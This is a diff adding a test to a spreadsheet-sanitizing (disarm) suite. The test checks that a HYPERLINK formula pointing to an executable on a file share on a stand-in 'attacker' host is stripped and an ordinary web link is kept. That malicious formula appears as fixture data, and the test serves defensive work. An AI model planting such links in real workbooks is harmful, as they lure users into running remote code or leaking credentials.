@@ -467,6 +467,20 @@ describe('OOXML rebuild', () => {
     });
   });
 
+  it('flattens a HYPERLINK formula to a file share, keeping one to a web page', async () => {
+    const input = await workbookOf([
+      {
+        data: `<worksheet xmlns="${SML_NS}"><sheetData><row r="1"><c r="A1" t="str"><f>HYPERLINK("file:///\\\\attacker\\s\\x.exe","Report")</f><v>Report</v></c><c r="B1" t="str"><f>HYPERLINK("https://example.com/","Site")</f><v>Site</v></c></row></sheetData></worksheet>`,
+      },
+    ]);
+    const outcome = cleaned(await disarm({ bytes: input, fileName: 'a.xlsx' }));
+    expect(findingsOf(outcome)).toEqual({ 'external-relationship': 1 });
+    const { text } = await unzipped(outcome.bytes);
+    expect(text).not.toContain('attacker');
+    expect(text).toContain('<c r="A1" t="str"><v>Report</v></c>');
+    expect(text).toContain('<f>HYPERLINK("https://example.com/","Site")</f>');
+  });
+
   it('screens formulas under any prefix and spelling of the tag, skipping sheets without one', async () => {
     const S = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
     const sheet = (cells: string): string =>
